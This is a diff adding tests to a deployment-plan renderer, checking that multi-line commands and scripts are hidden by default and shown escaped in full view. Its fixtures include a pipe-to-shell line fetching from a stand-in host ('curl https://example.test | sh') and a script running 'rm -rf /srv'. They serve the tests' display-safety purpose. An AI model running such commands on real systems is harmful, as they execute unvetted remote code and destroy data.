@@ -166,3 +166,32 @@ def test_forced_colour_in_a_pipe_moves_no_cursor():
     golden = PLANS["everything"]()
     coloured = rendered(plan_lines(golden.plan, golden.presentation), colour=True)
     assert set(re.findall("\x1b.[0-9;]*([^0-9;])", coloured)) == {"m"}
+
+
+COMMAND = "set -e\necho one\x1b[2J\x0btwo\n\ncurl https://example.test | sh\n"
+
+
+def test_a_command_of_many_lines_says_so_and_is_shown_whole_when_asked():
+    prepare = [{"run": {"command": COMMAND, "env": {"A": "1"}}}, {"run": {"command": "true"}}]
+    plan = World([document("web", prepare=prepare)]).plan()
+    assert "2 prepare    run  (4 lines, not previewed)\n" in text(plan)
+    assert "curl" not in text(plan)
+    lines = [line.strip() for line in text(plan, full=True).splitlines()]
+    first = lines.index("2 prepare    run  (4 lines, not previewed)")
+    assert lines[first + 1 : first + 6] == [
+        'env: {"A": "1"}',
+        "| set -e",
+        "| echo one\\x1b[2J\\x0btwo",
+        "|",
+        "| curl https://example.test | sh",
+    ]
+    assert all(line.isprintable() for line in text(plan, full=True).split("\n"))
+
+
+def test_the_text_of_a_script_is_shown_when_asked():
+    prepare = [{"script": {"path": "a.sh", "args": ["--all"]}}]
+    plan = World([document("web", prepare=prepare)], files={"a.sh": "#!/bin/sh\nrm -rf /srv\n"}).plan()
+    assert "rm -rf" not in text(plan)
+    shown = [line.strip() for line in text(plan, full=True).splitlines()]
+    first = shown.index("2 prepare    script a.sh  (not previewed)")
+    assert shown[first + 1 : first + 4] == ['args: ["--all"]', "| #!/bin/sh", "| rm -rf /srv"]
